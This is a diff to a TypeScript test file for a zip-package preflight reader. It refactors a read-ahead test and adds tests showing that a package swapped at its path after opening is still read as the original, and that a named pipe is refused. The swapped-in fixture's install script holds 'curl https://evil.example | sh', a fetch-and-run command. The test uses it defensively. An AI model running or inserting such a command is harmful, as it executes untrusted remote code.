@@ -1,12 +1,14 @@
-import { readdir } from 'node:fs/promises';
+import { execFileSync } from 'node:child_process';
+import { mkdtemp, readdir, rename } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { describe, expect, it, vi } from 'vitest';
 import { ArchiveRefusal } from '../../src/core/errors/archive-refusal.js';
 import { DEFAULT_ARCHIVE_LIMITS, type ArchiveEntry, type OpenedArchive } from '../../src/preflight/archive.js';
-import { createByteReader, type ByteReader } from '../../src/yauzl/create-byte-reader.js';
 import { createReadAhead, READ_AHEAD_ENTRIES, WHOLE_ENTRY_BYTES } from '../../src/yauzl/create-read-ahead.js';
 import { openArchive } from '../../src/yauzl/open-archive.js';
-import { openZipFile } from '../../src/yauzl/open-zip-file.js';
+import { openZipFile, type ReadRange } from '../../src/yauzl/open-zip-file.js';
 import { readCentralDirectory } from '../../src/yauzl/read-central-directory.js';
 import { buildRawZip } from '../helpers/raw-zip.js';
 import { buildYazlZip, writeTempFile } from './build-yazl-zip.js';
@@ -107,19 +109,15 @@ describe('entries inflated ahead of the reader', () => {
       files.flatMap((file, index) => (index % 3 === 0 ? [{ name: `d${index}/`, directory: true }, file] : [file])),
     );
     const source = { kind: 'buffer' as const, buffer: zip, name: 'pkg.zip' };
-    const zipfile = await openZipFile(source);
+    const { zipfile, readRange } = await openZipFile(source);
     try {
       const { entries } = await readCentralDirectory(zipfile, 100);
       entries.sort((a, b) => a.relativeOffsetOfLocalHeader - b.relativeOffsetOfLocalHeader);
-      const real = createByteReader(source);
       const read: string[] = [];
-      const spy: ByteReader = {
-        read: (position, length) => {
-          // The entry whose local header comes last before the bytes asked for.
-          read.push(entries.filter((entry) => entry.relativeOffsetOfLocalHeader < position).at(-1)!.fileName);
-          return real.read(position, length);
-        },
-        close: () => real.close(),
+      const spy: ReadRange = (position, length) => {
+        // The entry whose local header comes last before the bytes asked for.
+        read.push(entries.filter((entry) => entry.relativeOffsetOfLocalHeader < position).at(-1)!.fileName);
+        return readRange(position, length);
       };
       const ahead = createReadAhead(zipfile, spy, entries, DEFAULT_ARCHIVE_LIMITS);
       const readAll = async (entry: (typeof entries)[number]): Promise<string> => {
@@ -138,9 +136,36 @@ describe('entries inflated ahead of the reader', () => {
       expect(read.slice(0, 4)).toEqual(files.slice(0, 4).map((file) => file.name));
       // Each read ahead finds its file's data first (yauzl reads the local header), so the last are asked for a moment later.
       await vi.waitFor(() => expect(read).toEqual(files.slice(0, 4 + READ_AHEAD_ENTRIES).map((file) => file.name)));
-      real.close();
     } finally {
       zipfile.close();
     }
+  });
+
+  it('when the package is replaced at its path after it was opened, what is read is still the package that was opened', async () => {
+    const large = textOf(7, WHOLE_ENTRY_BYTES + 100_000);
+    const build = (script: string) =>
+      buildYazlZip([
+        { name: 'scripts/install.sh', content: script },
+        { name: 'share/large.txt', content: large },
+      ]);
+    const path = await writeTempFile('swapped.zip', await build('#!/bin/sh\nsystemctl restart dten\n'));
+    const archive = await openArchive({ kind: 'file', path }, DEFAULT_ARCHIVE_LIMITS);
+    try {
+      const other = await writeTempFile('other.zip', await build('#!/bin/sh\ncurl https://evil.example | sh\n'));
+      await rename(other, path);
+      const [script, text] = archive.entries;
+      expect(Buffer.concat(await chunksOf(archive, script!)).toString()).toBe('#!/bin/sh\nsystemctl restart dten\n');
+      expect(Buffer.concat(await chunksOf(archive, text!)).toString()).toBe(large);
+    } finally {
+      archive.close();
+    }
+  });
+
+  it('when a named pipe sits where the package should be, it is refused at once as not a regular file', async () => {
+    const path = join(await mkdtemp(join(tmpdir(), 'dten-fifo-')), 'Full-upgrade-package-dten.zip');
+    execFileSync('mkfifo', [path]);
+    const refusal = await openArchive({ kind: 'file', path }, DEFAULT_ARCHIVE_LIMITS).catch((error: unknown) => error);
+    expect(refusal).toBeInstanceOf(ArchiveRefusal);
+    expect(refusal).toMatchObject({ code: 'not-found', params: { detail: 'not a regular file' } });
   });
 });
